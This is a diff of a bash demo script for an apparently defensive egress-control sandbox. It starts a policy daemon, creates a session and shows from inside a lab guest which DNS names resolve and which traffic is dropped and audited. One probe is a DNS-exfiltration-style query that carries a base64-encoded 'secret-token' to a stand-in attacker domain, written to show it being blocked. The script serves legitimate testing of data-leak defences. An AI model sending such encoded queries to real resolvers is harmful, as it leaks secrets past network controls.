@@ -1,7 +1,8 @@
 #!/usr/bin/env bash
-# The demo: installs dependencies, builds, brings up the lab with one governed
-# guest and shows what "zero network by default" means from inside it.
-# Cleans up after itself. Run as root: scripts/demo.sh
+# The demo: installs dependencies, builds, brings up the lab, starts zerod in
+# the lab's host namespace, creates session user-1 with the example policy of
+# DESIGN.md and shows from inside the guest what it can and cannot reach —
+# then the audit trail. Cleans up after itself. Run as root: scripts/demo.sh
 set -euo pipefail
 cd "$(dirname "$0")/.."
 
@@ -10,17 +11,20 @@ if [ "$(id -u)" -ne 0 ]; then
   exit 1
 fi
 
+BUILD_DIR=${BUILD_DIR:-build}
 scripts/install-deps.sh
-cmake -S . -B "${BUILD_DIR:-build}" -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
-cmake --build "${BUILD_DIR:-build}" -j"$(nproc)" --target zn-lab > /dev/null
+cmake -S . -B "$BUILD_DIR" -DCMAKE_BUILD_TYPE=RelWithDebInfo > /dev/null
+cmake --build "$BUILD_DIR" -j"$(nproc)" --target zn-lab zerod znctl > /dev/null
 
 PREFIX=zndemo
-LAB="${BUILD_DIR:-build}/tools/zn-lab/zn-lab --prefix $PREFIX"
-PROBE_PID=""
+WORK=$(mktemp -d /tmp/zeroness-demo.XXXXXX)
+LAB="$BUILD_DIR/tools/zn-lab/zn-lab --prefix $PREFIX"
+ZNCTL="$BUILD_DIR/tools/znctl/znctl --socket $WORK/zerod.sock --state-dir $WORK/state --pin-root /sys/fs/bpf/zeroness-$PREFIX"
+ZEROD_PID=""
 cleanup() {
-  [ -n "$PROBE_PID" ] && kill "$PROBE_PID" 2> /dev/null || true
-  [ -n "${PROBE:-}" ] && rm -f "$PROBE"
+  [ -n "$ZEROD_PID" ] && kill "$ZEROD_PID" 2> /dev/null && wait "$ZEROD_PID" 2> /dev/null || true
   $LAB down > /dev/null 2>&1 || true
+  rm -rf "$WORK"
 }
 trap cleanup EXIT
 
@@ -30,51 +34,45 @@ in_guest() {
   $LAB exec g0 -- sh -c "$*" 2>&1 | sed 's/^/  /' || true
 }
 
-say "Bring up the lab: a stand-in internet, a host namespace, one guest behind a TAP"
-$LAB up --guests 1
-$LAB status
+say "The lab: a stand-in internet (198.18.0.0/16), a host namespace, one guest behind TAP zn-tap0"
+$LAB up --guests 1 --ungoverned
 
-say "From inside the guest, nothing gets out by default"
-in_guest 'ping -c 1 -W 1 198.18.0.10 || echo "ping: blocked"'
-in_guest 'nc -z -w 2 198.18.0.10 22 || echo "ssh port: blocked"'
-in_guest 'echo hi | nc -u -w 1 198.18.0.10 443; echo "udp/443 (QUIC): sent into the void"'
-in_guest 'curl -s -m 3 http://198.18.0.10/ || echo "http: no proxy listening yet -> dropped (fail closed)"'
+say "zerod starts in the host namespace (the lab's names resolve to the stand-in internet)"
+cat > "$WORK/zerod.json" << JSON
+{ "netns": "$PREFIX-host", "pin_root": "/sys/fs/bpf/zeroness-$PREFIX",
+  "state_dir": "$WORK/state", "control_socket": "$WORK/zerod.sock",
+  "dns_static": { "api.github.com": ["198.18.0.10"], "api.stripe.com": ["198.18.0.11"],
+                  "registry.npmjs.org": ["198.18.0.12"], "db.internal": ["198.18.0.13"],
+                  "evil.example": ["198.18.0.66"], "api.openai.com": ["198.18.0.10"] } }
+JSON
+"$BUILD_DIR/tools/zerod/zerod" --config "$WORK/zerod.json" > "$WORK/zerod.log" 2>&1 &
+ZEROD_PID=$!
+for _ in $(seq 50); do [ -S "$WORK/zerod.sock" ] && break; sleep 0.1; done
 
-say "HTTP/HTTPS are steered to a host socket (here a probe listener; zerod's proxy comes next)"
-# IP_TRANSPARENT listener on the proxy address the datapath steers to, with
-# SO_MARK 0x400 (SOL_SOCKET=1, SO_MARK=36) so its replies may reach the guest.
-# socat passes the accepted socket's local address (the guest's original
-# destination) to the responder as SOCAT_SOCKADDR/SOCAT_SOCKPORT.
-PROBE=$(mktemp)
-cat > "$PROBE" << 'EOS'
-#!/bin/sh
-printf 'HTTP/1.0 200 OK\r\n\r\nsteered to a host socket; original destination %s:%s\n' "$SOCAT_SOCKADDR" "$SOCAT_SOCKPORT"
-EOS
-chmod +x "$PROBE"
-ip netns exec "$PREFIX-host" socat \
-  TCP-LISTEN:15001,bind=127.0.0.1,reuseaddr,fork,ip-transparent,setsockopt-listen=1:36:1024 \
-  EXEC:"$PROBE" 2> /dev/null &
-PROBE_PID=$!
-sleep 0.5
-in_guest 'curl -s -m 3 http://198.18.0.10/'
-in_guest 'curl -s -m 3 http://198.18.0.13:443/'
-in_guest 'nc -z -w 2 198.18.0.10 8080 || echo "port 8080: blocked (not a steered port)"'
+say "Session user-1 with the example policy (examples/policy.json), on the guest's TAP"
+cat examples/policy.json | sed 's/^/  /'
+$ZNCTL session create user-1 --policy examples/policy.json --device zn-tap0 --slot 0
 
-say "DNS to any resolver (even a hard-coded 8.8.8.8) is steered to the host; nothing answers yet"
-in_guest 'dig @8.8.8.8 example.com +tries=1 +time=1 | grep -E "timed out|status" || true'
+say "Names the policy allows resolve — whatever resolver the guest names"
+in_guest 'dig api.github.com @8.8.8.8 +short'
+in_guest 'dig registry.npmjs.org @1.1.1.1 +short'
+say "Denied by policy (deny rule) and by default: NXDOMAIN, and the name never leaves the host"
+in_guest 'dig evil.example @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
+in_guest 'dig api.openai.com @8.8.8.8 +tries=1 +time=2 | grep -o "status: [A-Z]*"'
+in_guest 'dig c2VjcmV0LXRva2Vu.exfil.attacker.test +tries=1 +time=2 | grep -o "status: [A-Z]*"'
+
+say "Everything else is dropped at the TAP"
+in_guest 'ping -c 1 -W 1 198.18.0.10 > /dev/null || echo "ping: blocked"'
+in_guest 'nc -z -w 2 198.18.0.10 22 || echo "ssh: blocked"'
+in_guest 'curl -s -m 3 https://api.github.com/ || echo "https: steered to the proxy port; the proxy is not built yet -> dropped, never passed"'
 
 say "No secrets in the guest"
 in_guest 'env | grep -i token || echo "(no token in the environment)"'
 
-say "Why each packet died: per-session counters (zn-lab stats)"
-$LAB stats g0
-
-say "Drop events from the ring buffer (zn-lab events, rate-limited per session)"
-$LAB events --seconds 3 &
-EVENTS_PID=$!
-sleep 0.5
-$LAB exec g0 -- nc -z -w 1 198.18.0.11 5432 || true
-$LAB exec g0 -- ping -c 1 -W 1 198.18.0.12 > /dev/null 2>&1 || true
-wait $EVENTS_PID || true
-
-say "Done; tearing the lab down"
+sleep 1.2  # drop events reach the audit trail once a second
+say "What the datapath did, per reason (znctl stats user-1)"
+$ZNCTL stats user-1
+say "The audit trail of user-1 (znctl audit query --sid user-1)"
+$ZNCTL audit query --sid user-1
+$ZNCTL audit verify
+say "Done; stopping zerod and tearing the lab down"
